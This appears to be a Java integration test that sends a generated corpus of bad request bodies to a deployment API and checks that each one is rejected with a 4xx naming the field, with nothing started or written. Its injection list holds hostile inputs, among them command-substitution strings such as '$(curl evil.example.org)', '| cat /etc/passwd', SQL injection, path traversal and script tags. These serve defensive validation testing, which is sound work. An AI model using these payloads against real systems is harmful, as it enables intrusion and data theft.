package org.kotta.deployer.localcloud;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.kotta.deployer.core.AwsClients;
import org.kotta.deployer.localcloud.SignedApiClient.Response;

/**
 * Bad input: a corpus of bad request bodies generated from the request rules
 * (RequestValidator, docs/openapi.yaml), sent through the signed API. Every one must be a
 * 4xx naming the field, none a 5xx, and nothing may start or be written. A value the rules
 * accept (the in-bound side of a boundary, an optional field's null) is sent next to an
 * "anchor" that is always wrong, so that it too starts nothing, and must not be flagged.
 */
class BadInputCorpusIT {
    private static final String PROBLEM = "urn:kotta-deployer:problem:";
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** A 64-character value that looks like a Login-with-Amazon client secret: never to come back. */
    private static final String SECRET = secretLookingValue();

    /** What the answer must show. */
    enum Expect {
        /** 400 invalid-request naming {@link Case#field} */
        FIELD,
        /** 400 invalid-request naming the anchor and not {@link Case#field}: the value itself is fine */
        ACCEPTED,
        /** 400 invalid-request naming the body ({@code $}): JSON, but not an object */
        BODY,
        /** 400 malformed-body: not JSON at all */
        MALFORMED
    }

    record Case(String name, String body, String field, Expect expect, String anchor) {}

    /** The generator: every body is a valid request with one change (plus the anchor when the change is fine). */
    static final class Corpus {
        private final ObjectNode valid;
        private final List<Case> cases = new ArrayList<>();

        Corpus(ObjectNode valid) {
            this.valid = valid;
        }

        void bad(String name, String field, Consumer<ObjectNode> change) {
            ObjectNode body = valid.deepCopy();
            change.accept(body);
            cases.add(new Case(name, body.toString(), field, Expect.FIELD, null));
        }

        void fine(String name, String field, Consumer<ObjectNode> change) {
            ObjectNode body = valid.deepCopy();
            change.accept(body);
            String anchor = field.startsWith("testM") ? "spotPrice" : "testMaxWorkers";
            if (anchor.equals("spotPrice")) {
                body.put("spotPrice", "0");
            } else {
                body.put("testMaxWorkers", 101);
            }
            cases.add(new Case(name, body.toString(), field, Expect.ACCEPTED, anchor));
        }

        void raw(String name, String body, Expect expect) {
            cases.add(new Case(name, body, expect == Expect.BODY ? "$" : null, expect, null));
        }

        /** Sets {@code path} (a top-level field or {@code adminUsers[0].<field>}) to {@code value}. */
        static Consumer<ObjectNode> set(String path, JsonNode value) {
            return body -> target(body, path).set(leaf(path), value);
        }

        static Consumer<ObjectNode> set(String path, String value) {
            return set(path, NODES.textNode(value));
        }

        static Consumer<ObjectNode> remove(String path) {
            return body -> target(body, path).remove(leaf(path));
        }

        private static ObjectNode target(ObjectNode body, String path) {
            return path.startsWith("adminUsers[0].")
                    ? (ObjectNode) body.path("adminUsers").get(0)
                    : body;
        }

        private static String leaf(String path) {
            return path.substring(path.lastIndexOf('.') + 1);
        }
    }

    /** The request's fields as the rules see them. */
    private record Field(String name, boolean required, boolean text, boolean integer, boolean number, boolean array) {
        boolean accepts(JsonNode value) {
            if (value.isNull()) {
                return !required;
            }
            return (text && value.isTextual())
                    || (integer && value.isIntegralNumber())
                    || (number && value.isNumber())
                    || (array && value.isArray());
        }
    }

    private static final List<Field> FIELDS = List.of(
            new Field("stackName", true, true, false, false, false),
            new Field("region", true, true, false, false, false),
            new Field("jobsBucketName", true, true, false, false, false),
            new Field("domainName", true, true, false, false, false),
            new Field("certificateArn", true, true, false, false, false),
            new Field("oauthClientId", true, true, false, false, false),
            new Field("oauthClientSecretArn", true, true, false, false, false),
            new Field("webServerInstanceType", false, true, false, false, false),
            new Field("taskExecutorInstanceType", false, true, false, false, false),
            new Field("prodMinWorkers", false, false, true, false, false),
            new Field("prodMaxWorkers", false, false, true, false, false),
            new Field("testMinWorkers", false, false, true, false, false),
            new Field("testMaxWorkers", false, false, true, false, false),
            new Field("spotPrice", false, true, false, true, false),
            new Field("keyPairName", false, true, false, false, false),
            new Field("adminUsers", true, false, false, false, true),
            new Field("codeSource", false, true, false, false, false),
            new Field("adminUsers[0].email", true, true, false, false, false),
            new Field("adminUsers[0].name", false, true, false, false, false));

    /** The string fields whose values follow a pattern (everything but an admin's name and the key pair). */
    private static final List<String> PATTERNED = List.of(
            "stackName",
            "region",
            "jobsBucketName",
            "domainName",
            "certificateArn",
            "oauthClientId",
            "oauthClientSecretArn",
            "webServerInstanceType",
            "taskExecutorInstanceType",
            "codeSource",
            "adminUsers[0].email");

    static List<Case> generate(ObjectNode valid) {
        Corpus corpus = new Corpus(valid);
        wrongTypes(corpus);
        missingFields(corpus);
        unknownFields(corpus);
        boundaries(corpus);
        unicodeAndControlCharacters(corpus);
        injections(corpus);
        numbers(corpus);
        notObjects(corpus);
        secrets(corpus);
        return corpus.cases;
    }

    private static void wrongTypes(Corpus corpus) {
        Map<String, JsonNode> samples = new LinkedHashMap<>();
        samples.put("string", NODES.textNode("3"));
        samples.put("number", NODES.numberNode(42));
        samples.put("boolean", NODES.booleanNode(true));
        samples.put("array", NODES.arrayNode().add("kotta"));
        samples.put("object", NODES.objectNode().put("value", "kotta"));
        samples.put("null", NODES.nullNode());
        for (Field field : FIELDS) {
            samples.forEach((type, value) -> {
                if (field.text() && value.isTextual()
                        || field.array() && value.isArray()
                        || field.integer() && value.isIntegralNumber()) {
                    return; // the right type: not this section's business
                }
                String name = field.name() + " as " + type;
                if (field.accepts(value)) {
                    corpus.fine(name, field.name(), Corpus.set(field.name(), value));
                } else {
                    corpus.bad(name, field.name(), Corpus.set(field.name(), value));
                }
            });
        }
        // the one boolean: true, false or null; no string or number stands for them
        samples.forEach((type, value) -> {
            String name = "refreshImage as " + type;
            if (value.isBoolean() || value.isNull()) {
                corpus.fine(name, "refreshImage", Corpus.set("refreshImage", value));
            } else {
                corpus.bad(name, "refreshImage", Corpus.set("refreshImage", value));
            }
        });
        corpus.fine("refreshImage as false", "refreshImage", Corpus.set("refreshImage", NODES.booleanNode(false)));
        corpus.bad(
                "refreshImage as the string true", "refreshImage", Corpus.set("refreshImage", NODES.textNode("true")));
        // the one-of pair: a hosted zone id as well as a certificate, a wrong-typed one
        corpus.bad(
                "hostedZoneId as number next to certificateArn",
                "hostedZoneId",
                Corpus.set("hostedZoneId", NODES.numberNode(7)));
        corpus.fine(
                "hostedZoneId null next to certificateArn",
                "hostedZoneId",
                Corpus.set("hostedZoneId", NODES.nullNode()));
        corpus.bad(
                "adminUsers[0] as string",
                "adminUsers[0]",
                body -> ((ArrayNode) body.get("adminUsers")).set(0, NODES.textNode("pi@example.org")));
        corpus.bad(
                "adminUsers[0] as null",
                "adminUsers[0]",
                body -> ((ArrayNode) body.get("adminUsers")).set(0, NODES.nullNode()));
    }

    private static void missingFields(Corpus corpus) {
        for (Field field : FIELDS) {
            if (field.required()) {
                corpus.bad("without " + field.name(), field.name(), Corpus.remove(field.name()));
            } else {
                corpus.fine("without " + field.name(), field.name(), Corpus.remove(field.name()));
            }
        }
        corpus.bad("empty object", "stackName", ObjectNode::removeAll);
    }

    private static void unknownFields(Corpus corpus) {
        for (String name : List.of(
                "extra",
                "StackName",
                "stack_name",
                "__proto__",
                "constructor",
                "$where",
                "password",
                "stackName ",
                "",
                "Region")) {
            corpus.bad("unknown field '" + name + "'", name, Corpus.set(name, "kotta"));
        }
        corpus.bad("unknown field with a control character", "stack?Name", Corpus.set("stack\u0001Name", "kotta"));
        String longName = "f".repeat(100);
        corpus.bad("unknown field with a 100-character name", "f".repeat(63) + "...", Corpus.set(longName, "x"));
        corpus.bad("unknown field of an admin", "adminUsers[0].role", Corpus.set("adminUsers[0].role", "owner"));
        corpus.bad("a field that carries a secret", "clientSecret", Corpus.set("clientSecret", "s3cr3t"));
    }

    private static void boundaries(Corpus corpus) {
        corpus.bad("stackName 0 characters", "stackName", Corpus.set("stackName", ""));
        corpus.fine("stackName 1 character", "stackName", Corpus.set("stackName", "k"));
        corpus.fine("stackName 63 characters", "stackName", Corpus.set("stackName", "k" + "a".repeat(62)));
        corpus.bad("stackName 64 characters", "stackName", Corpus.set("stackName", "k" + "a".repeat(63)));
        corpus.bad("stackName 129 characters", "stackName", Corpus.set("stackName", "k" + "a".repeat(128)));
        corpus.bad("stackName starting with a digit", "stackName", Corpus.set("stackName", "1kotta"));

        corpus.bad("jobsBucketName 2 characters", "jobsBucketName", Corpus.set("jobsBucketName", "ab"));
        corpus.fine("jobsBucketName 3 characters", "jobsBucketName", Corpus.set("jobsBucketName", "abc"));
        corpus.fine("jobsBucketName 63 characters", "jobsBucketName", Corpus.set("jobsBucketName", "b".repeat(63)));
        corpus.bad("jobsBucketName 64 characters", "jobsBucketName", Corpus.set("jobsBucketName", "b".repeat(64)));
        for (String name : List.of(
                "Kotta-Jobs",
                "kotta_jobs",
                "-kotta",
                "kotta-",
                "kotta..jobs",
                "192.168.1.1",
                "xn--kotta",
                "kotta-s3alias",
                "sthree-kotta")) {
            corpus.bad("jobsBucketName '" + name + "'", "jobsBucketName", Corpus.set("jobsBucketName", name));
        }

        corpus.fine("domainName label 63", "domainName", Corpus.set("domainName", "d".repeat(63) + ".org"));
        corpus.bad("domainName label 64", "domainName", Corpus.set("domainName", "d".repeat(64) + ".org"));
        corpus.fine("domainName 253 characters", "domainName", Corpus.set("domainName", domainOfLength(253)));
        corpus.bad("domainName 254 characters", "domainName", Corpus.set("domainName", domainOfLength(254)));
        for (String name : List.of(
                "localhost",
                "kotta..example.org",
                ".example.org",
                "example.org.",
                "-kotta.org",
                "kotta.123",
                "kotta_x.org")) {
            corpus.bad("domainName '" + name + "'", "domainName", Corpus.set("domainName", name));
        }

        corpus.bad("adminUsers 0", "adminUsers", Corpus.set("adminUsers", admins(0)));
        corpus.fine("adminUsers 1", "adminUsers", Corpus.set("adminUsers", admins(1)));
        corpus.fine("adminUsers 50", "adminUsers", Corpus.set("adminUsers", admins(50)));
        corpus.bad("adminUsers 51", "adminUsers", Corpus.set("adminUsers", admins(51)));
        corpus.bad("adminUsers with a duplicate e-mail", "adminUsers[1].email", body -> {
            ArrayNode admins = admins(2);
            ((ObjectNode) admins.get(1)).put("email", "ADMIN0@example.org");
            body.set("adminUsers", admins);
        });
        corpus.fine("admin name 128", "adminUsers[0].name", Corpus.set("adminUsers[0].name", "n".repeat(128)));
        corpus.bad("admin name 129", "adminUsers[0].name", Corpus.set("adminUsers[0].name", "n".repeat(129)));
        corpus.fine(
                "admin e-mail local part 64",
                "adminUsers[0].email",
                Corpus.set("adminUsers[0].email", "l".repeat(64) + "@example.org"));
        corpus.bad(
                "admin e-mail local part 65",
                "adminUsers[0].email",
                Corpus.set("adminUsers[0].email", "l".repeat(65) + "@example.org"));
        corpus.fine(
                "admin e-mail 254",
                "adminUsers[0].email",
                Corpus.set("adminUsers[0].email", "l".repeat(64) + "@" + domainOfLength(189)));
        corpus.bad(
                "admin e-mail 255",
                "adminUsers[0].email",
                Corpus.set("adminUsers[0].email", "l".repeat(64) + "@" + domainOfLength(190)));
        for (String email : List.of("no-at-sign", "two@@example.org", "@example.org", "a@b", "a..b@example.org")) {
            corpus.bad("admin e-mail '" + email + "'", "adminUsers[0].email", Corpus.set("adminUsers[0].email", email));
        }

        corpus.fine("keyPairName 255", "keyPairName", Corpus.set("keyPairName", "k".repeat(255)));
        corpus.bad("keyPairName 256", "keyPairName", Corpus.set("keyPairName", "k".repeat(256)));

        corpus.fine(
                "codeSource key 1024 bytes", "codeSource", Corpus.set("codeSource", codeSourceWithKeyBytes(1024, "k")));
        corpus.bad(
                "codeSource key 1025 bytes", "codeSource", Corpus.set("codeSource", codeSourceWithKeyBytes(1025, "k")));
        corpus.bad(
                "codeSource key 1025 bytes of 2-byte characters",
                "codeSource",
                Corpus.set("codeSource", codeSourceWithKeyBytes(1025, "é")));
        for (String source : List.of(
                "s3://kotta-code/../etc/site.tar.gz",
                "s3://kotta-code/site.zip",
                "https://evil.example.org/site.tar.gz",
                "file:///etc/passwd",
                "s3://Kotta_Code/site.tar.gz",
                "s3://kotta-code/",
                "s3:///site.tar.gz")) {
            corpus.bad("codeSource '" + source + "'", "codeSource", Corpus.set("codeSource", source));
        }

        corpus.fine("secret name 512", "oauthClientSecretArn", Corpus.set("oauthClientSecretArn", secretArn(512)));
        corpus.bad("secret name 513", "oauthClientSecretArn", Corpus.set("oauthClientSecretArn", secretArn(513)));
        corpus.bad(
                "secret in another region",
                "oauthClientSecretArn",
                Corpus.set("oauthClientSecretArn", "arn:aws:secretsmanager:eu-west-1:123456789012:secret:kotta/lwa"));
        corpus.bad(
                "certificate in another region",
                "certificateArn",
                Corpus.set(
                        "certificateArn",
                        "arn:aws:acm:eu-west-1:123456789012:certificate/01234567-89ab-cdef-0123-456789abcdef"));
        corpus.bad("region in GovCloud", "region", Corpus.set("region", "us-gov-west-1"));
        corpus.bad("region elsewhere than the orchestrator", "region", Corpus.set("region", "eu-west-1"));
        corpus.bad(
                "both certificateArn and hostedZoneId",
                "hostedZoneId",
                Corpus.set("hostedZoneId", "Z0123456789ABCDEFGHIJ"));
        corpus.bad("neither certificateArn nor hostedZoneId", "certificateArn", Corpus.remove("certificateArn"));
        corpus.bad(
                "prodMinWorkers above prodMaxWorkers",
                "prodMinWorkers",
                Corpus.set("prodMinWorkers", NODES.numberNode(5)));
        corpus.fine("prodMaxWorkers 100", "prodMaxWorkers", Corpus.set("prodMaxWorkers", NODES.numberNode(100)));
        corpus.bad("prodMaxWorkers 101", "prodMaxWorkers", Corpus.set("prodMaxWorkers", NODES.numberNode(101)));
        corpus.fine("testMaxWorkers 100", "testMaxWorkers", Corpus.set("testMaxWorkers", NODES.numberNode(100)));
        corpus.bad("testMaxWorkers 101", "testMaxWorkers", Corpus.set("testMaxWorkers", NODES.numberNode(101)));
        corpus.fine("spotPrice 0.0001", "spotPrice", Corpus.set("spotPrice", "0.0001"));
        corpus.bad("spotPrice 0.00001", "spotPrice", Corpus.set("spotPrice", "0.00001"));
        corpus.fine("spotPrice 100", "spotPrice", Corpus.set("spotPrice", "100"));
        corpus.bad("spotPrice 100.0001", "spotPrice", Corpus.set("spotPrice", "100.0001"));
        corpus.bad("spotPrice 0", "spotPrice", Corpus.set("spotPrice", "0"));
        corpus.bad("spotPrice 1e2", "spotPrice", Corpus.set("spotPrice", "1e2"));
    }

    private static void unicodeAndControlCharacters(Corpus corpus) {
        Map<String, String> control = Map.of(
                "NUL",
                "kotta\u0000x",
                "TAB",
                "kotta\tx",
                "CRLF",
                "kotta\r\nx",
                "DEL",
                "kotta\u007fx",
                "ESC",
                "kotta\u001b[31mx");
        Map<String, String> unicode = Map.of(
                "accented",
                "kötta",
                "right-to-left override",
                "kotta\u202egpj.exe",
                "emoji",
                "kotta\uD83D\uDE00",
                "zero-width space",
                "kot\u200Bta",
                "fullwidth",
                "ｋｏｔｔａ");
        for (Field field : FIELDS) {
            if (!field.text()) {
                continue;
            }
            control.forEach((what, value) ->
                    corpus.bad(field.name() + " with " + what, field.name(), Corpus.set(field.name(), value)));
            if (PATTERNED.contains(field.name()) || field.name().equals("keyPairName")) {
                unicode.forEach((what, value) ->
                        corpus.bad(field.name() + " with " + what, field.name(), Corpus.set(field.name(), value)));
            } else if (field.name().equals("adminUsers[0].name")) {
                unicode.forEach((what, value) ->
                        corpus.fine(field.name() + " with " + what, field.name(), Corpus.set(field.name(), value)));
            }
        }
    }

    private static void injections(Corpus corpus) {
        List<String> attacks = List.of(
                "' OR '1'='1' --",
                "kotta; DROP TABLE deployments;",
                "$(curl evil.example.org)",
                "`id`",
                "../../../etc/passwd",
                "kotta\r\nX-Injected: 1",
                "<script>alert(1)</script>",
                "{{resolve:secretsmanager:kotta/lwa:SecretString}}",
                "!Ref AWS::AccountId",
                "${AWS::AccountId}",
                "%00kotta",
                "| cat /etc/passwd");
        for (String field : List.of(
                "stackName",
                "jobsBucketName",
                "domainName",
                "region",
                "webServerInstanceType",
                "codeSource",
                "adminUsers[0].email",
                "certificateArn",
                "keyPairName",
                "adminUsers[0].name")) {
            for (String attack : attacks) {
                boolean printableAscii = attack.chars().allMatch(c -> c >= 0x20 && c <= 0x7e);
                // a key pair name is any printable ASCII, an admin's name any text: both are only ever
                // CloudFormation parameter values and DynamoDB attributes, never evaluated
                boolean free = field.equals("adminUsers[0].name") && printableAscii
                        || field.equals("keyPairName") && printableAscii;
                if (free) {
                    corpus.fine(field + " = " + attack, field, Corpus.set(field, attack));
                } else {
                    corpus.bad(field + " = " + attack, field, Corpus.set(field, attack));
                }
            }
        }
    }

    private static void numbers(Corpus corpus) {
        for (String field : List.of("prodMinWorkers", "prodMaxWorkers", "testMinWorkers", "testMaxWorkers")) {
            for (String number : List.of(
                    "1e400",
                    "9223372036854775808",
                    "9223372036854775807",
                    "-1",
                    "1.5",
                    "1e2",
                    "-9223372036854775809",
                    "2147483648",
                    "100000000000000000000000000000000000000")) {
                corpus.cases.add(
                        new Case(field + " = " + number, with(corpus.valid, field, number), field, Expect.FIELD, null));
            }
        }
        for (String number : List.of("1e400", "-1", "0", "1e-400", "9223372036854775808", "100.00001", "-0.0")) {
            corpus.cases.add(new Case(
                    "spotPrice = " + number, with(corpus.valid, "spotPrice", number), "spotPrice", Expect.FIELD, null));
        }
    }

    /** The valid body with {@code field} set to a JSON number literal exactly as written. */
    private static String with(ObjectNode valid, String field, String numberLiteral) {
        ObjectNode body = valid.deepCopy();
        body.put(field, "__NUMBER__");
        return body.toString().replace("\"__NUMBER__\"", numberLiteral);
    }

    private static void notObjects(Corpus corpus) {
        for (String body : List.of("[]", "[{}]", "\"kotta\"", "42", "true", "null", "-1e400")) {
            corpus.raw("body " + body, body, Expect.BODY);
        }
        for (String body : List.of(
                "not json",
                "{",
                "{\"stackName\": }",
                "{\"stackName\": \"a\"} {}",
                "{\"stackName\": \"a\", \"stackName\": \"b\"}",
                "{'stackName': 'a'}",
                "NaN",
                "\u0000")) {
            corpus.raw("body " + body.replace("\u0000", "NUL"), body, Expect.MALFORMED);
        }
        corpus.raw("empty body", "", Expect.MALFORMED);
    }

    private static void secrets(Corpus corpus) {
        corpus.bad(
                "a secret as oauthClientSecretArn", "oauthClientSecretArn", Corpus.set("oauthClientSecretArn", SECRET));
        corpus.bad(
                "a secret in an extra oauthClientSecret field",
                "oauthClientSecret",
                Corpus.set("oauthClientSecret", SECRET));
        corpus.bad("a secret as oauthClientId", "oauthClientId", Corpus.set("oauthClientId", SECRET));
        corpus.bad("a secret as stackName", "stackName", Corpus.set("stackName", SECRET));
        corpus.bad("a secret as domainName", "domainName", Corpus.set("domainName", SECRET));
    }

    @Test
    void everyGeneratedBadBody_isA4xxNamingTheField_andNothingStartsOrIsWritten() throws Exception {
        LocalOrchestrator orchestrator = LocalCloud.orchestrator();
        AwsClients aws = orchestrator.aws();
        SignedApi api = SignedApi.forLocalCloud(orchestrator);
        List<Case> cases = generate(Fixtures.validRequest(aws, "corpus-" + Fixtures.shortId()));
        assertThat(cases).hasSizeGreaterThanOrEqualTo(200);
        int executionsBefore = FaultChecks.executionCount();
        int itemsBefore = FaultChecks.deploymentTableItemCount();
        int exchanges = FaultChecks.exchangeMark();

        long started = System.nanoTime();
        List<Response> answers = send(api, cases);
        long seconds = (System.nanoTime() - started) / 1_000_000_000L;

        List<String> wrong = new ArrayList<>();
        int fourXx = 0;
        int namedTheField = 0;
        int acceptedNotFlagged = 0;
        int secretEchoes = 0;
        for (int i = 0; i < cases.size(); i++) {
            Case c = cases.get(i);
            Response answer = answers.get(i);
            if (answer.status() >= 400 && answer.status() < 500) {
                fourXx++;
            }
            if (answer.body() != null && answer.body().contains(SECRET)) {
                secretEchoes++;
                wrong.add(c.name() + ": the answer repeats the secret");
            }
            String problem = check(c, answer);
            if (problem == null) {
                if (c.expect() == Expect.ACCEPTED) {
                    acceptedNotFlagged++;
                } else {
                    namedTheField++;
                }
            } else {
                wrong.add(c.name() + ": " + problem);
            }
        }
        int executionsStarted = FaultChecks.executionCount() - executionsBefore;
        int itemsWritten = FaultChecks.deploymentTableItemCount() - itemsBefore;
        long accepted =
                cases.stream().filter(c -> c.expect() == Expect.ACCEPTED).count();
        // a body that got through would be a deployment of this case: its record must exist and have ended
        List<String> startedIds = answers.stream()
                .filter(a -> a.status() == 202)
                .map(a -> a.json().path("deploymentId").asText())
                .toList();
        List<String> lost = FaultChecks.lostRecords(startedIds);
        List<String> stuck = FaultChecks.stuckDeployments(startedIds);
        long serverErrors = FaultChecks.serverErrors(FaultChecks.answersSince(exchanges));

        ReliabilityReport.record(
                "7-corpus",
                "A corpus of " + cases.size() + " bad request bodies generated from the request rules (wrong types,"
                        + " missing and unknown fields, boundaries ±1, unicode and control characters, injections,"
                        + " huge numbers, non-objects, secrets)",
                "every one a 4xx naming the field, none a 5xx; nothing started or written; no secret echoed",
                FaultChecks.counts(
                        "requests", cases.size(),
                        "answered4xx", fourXx,
                        "namedTheField", namedTheField,
                        "inBoundValuesNotFlagged", acceptedNotFlagged + "/" + accepted,
                        "wrongAnswers", wrong.size(),
                        "executionsStarted", executionsStarted,
                        "recordsWritten", itemsWritten,
                        "secretEchoes", secretEchoes,
                        "lostRecords", lost.size(),
                        "stuckDeployments", stuck.size(),
                        "serverErrors", serverErrors,
                        "seconds", seconds));

        assertThat(wrong).isEmpty();
        assertThat(fourXx).isEqualTo(cases.size());
        assertThat(FaultChecks.serverErrors(answers)).isZero();
        assertThat(serverErrors).isZero();
        assertThat(startedIds).isEmpty();
        assertThat(lost).isEmpty();
        assertThat(stuck).isEmpty();
        assertThat(executionsStarted).isZero();
        assertThat(itemsWritten).isZero();
        assertThat(secretEchoes).isZero();
    }

    /** What is wrong with the answer to a case, or null when it is right. */
    private static String check(Case c, Response answer) {
        String type = answer.status() >= 400
                        && answer.status() < 500
                        && answer.header("Content-Type") != null
                        && answer.header("Content-Type").startsWith("application/problem+json")
                ? answer.json().path("type").asText()
                : null;
        if (type == null) {
            return "answered " + answer;
        }
        List<String> fields = FaultChecks.errorFields(answer);
        return switch (c.expect()) {
            case MALFORMED -> (PROBLEM + "malformed-body").equals(type) ? null : "expected malformed-body: " + answer;
            case BODY, FIELD ->
                (PROBLEM + "invalid-request").equals(type)
                                && fields.contains(c.field())
                                && allMessagesGiven(answer.json())
                        ? null
                        : "expected an error on " + c.field() + ": " + answer;
            case ACCEPTED ->
                (PROBLEM + "invalid-request").equals(type) && fields.contains(c.anchor()) && !fields.contains(c.field())
                        ? null
                        : "expected " + c.field() + " accepted and only the anchor " + c.anchor() + " flagged: "
                                + answer;
        };
    }

    private static boolean allMessagesGiven(JsonNode problem) {
        for (JsonNode error : problem.path("errors")) {
            if (error.path("message").asText().isBlank()) {
                return false;
            }
        }
        return true;
    }

    /** Sends the corpus over a few connections at once; answers in the corpus's order. */
    private static List<Response> send(SignedApi api, List<Case> cases) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<Response>> futures = new ArrayList<>();
            for (Case c : cases) {
                futures.add(pool.submit(() -> api.send(
                        "POST",
                        "/deployments",
                        c.body().getBytes(StandardCharsets.UTF_8),
                        Map.of("Content-Type", "application/json"),
                        true)));
            }
            List<Response> answers = new ArrayList<>();
            for (Future<Response> future : futures) {
                answers.add(future.get(2, TimeUnit.MINUTES));
            }
            return answers;
        } finally {
            pool.shutdownNow();
        }
    }

    private static ArrayNode admins(int count) {
        ArrayNode admins = NODES.arrayNode();
        for (int i = 0; i < count; i++) {
            admins.addObject().put("email", "admin" + i + "@example.org").put("name", "Admin " + i);
        }
        return admins;
    }

    /** A valid host name of exactly {@code length} characters: 63-character labels, then the rest, then "org". */
    private static String domainOfLength(int length) {
        StringBuilder name = new StringBuilder();
        int left = length - ".org".length();
        char letter = 'a';
        while (left > 0) {
            int label = Math.min(63, left);
            if (left - label == 1) {
                label--; // never leave a single character for a dot and an empty label
            }
            if (name.length() > 0) {
                name.append('.');
                left--;
                label = Math.min(label, left);
            }
            name.append(String.valueOf(letter++).repeat(label));
            left -= label;
        }
        String result = name + ".org";
        if (result.length() != length) {
            throw new IllegalStateException("built a " + result.length() + "-character name for " + length);
        }
        return result;
    }

    /** {@code s3://kotta-code/<key>} with a key of exactly {@code bytes} UTF-8 bytes ending in .tar.gz. */
    private static String codeSourceWithKeyBytes(int bytes, String filler) {
        int fillerBytes = filler.getBytes(StandardCharsets.UTF_8).length;
        int room = bytes - ".tar.gz".length();
        String key = filler.repeat(room / fillerBytes) + "k".repeat(room % fillerBytes) + ".tar.gz";
        if (key.getBytes(StandardCharsets.UTF_8).length != bytes) {
            throw new IllegalStateException("built a key of the wrong length");
        }
        return "s3://kotta-code/" + key;
    }

    private static String secretArn(int nameLength) {
        return "arn:aws:secretsmanager:us-east-1:123456789012:secret:" + "s".repeat(nameLength);
    }

    private static String secretLookingValue() {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        SecureRandom random = new SecureRandom();
        StringBuilder value = new StringBuilder("lwa");
        while (value.length() < 64) {
            value.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        return value.toString();
    }
}
